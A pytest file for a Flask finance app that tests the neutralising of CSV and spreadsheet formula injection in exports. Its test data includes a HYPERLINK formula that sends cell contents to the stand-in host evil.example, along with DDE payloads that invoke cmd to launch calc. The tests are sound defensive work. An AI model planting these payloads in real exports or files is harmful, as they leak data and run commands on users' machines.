"""Issue 10 (CSV injection): exports never hand a spreadsheet a formula. A text cell beginning
with =, +, -, @, a tab or a carriage return (or a full-width =, +, -, @) is written with a
leading apostrophe; numbers, amounts and times are written as they are."""

from __future__ import annotations

import pytest
from flask.testing import FlaskClient

from tests.web.test_api import World, cst_now_text, settlement_csv
from tests.web.test_finance import _csv, _upload, finance, world  # noqa: F401 - fixtures
from web.common.csvexport import Column, attr, neutralise, render_csv


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＠SUM(A1)",
    ],
)
def test_formula_cells_are_written_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.05", "+12", "123.45", "退货", "a=b", "", "'quoted"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_render_csv_neutralises_text_columns_only() -> None:
    columns = [
        Column("reason", "Reason", attr("reason")),
        Column("amount", "Amount", attr("amount_fen"), kind="fen"),
        Column("n", "=Title", attr("n")),
    ]
    text = render_csv(columns, [{"reason": "=1+1", "amount_fen": -5, "n": -3}])
    assert text.splitlines() == ["\ufeffReason,Amount,'=Title", "'=1+1,-0.05,-3"]


def test_an_uploaded_settlement_row_comes_back_as_text(
    world: World,  # noqa: F811
    finance: FlaskClient,  # noqa: F811
) -> None:
    evil = "=cmd|' /C calc'!A0"  # no comma: the provider's format does not quote
    report = settlement_csv([(evil, "66.00", "SUCCESS", cst_now_text(world))])
    response = _upload(finance, report, "@bill.csv")
    assert response.status_code == 303
    run_id = response.headers["Location"].rsplit("/", 1)[-1]
    items = _csv(finance.get(f"/finance/reconciliation/{run_id}.csv?lang=en"))
    assert [row["Payment reference"] for row in items] == ["'" + evil]
    assert items[0]["Report amount (yuan)"] == "66.00"
    runs = _csv(finance.get("/finance/reconciliation.csv?lang=en"))
    assert [row["File"] for row in runs] == ["'@bill.csv"]
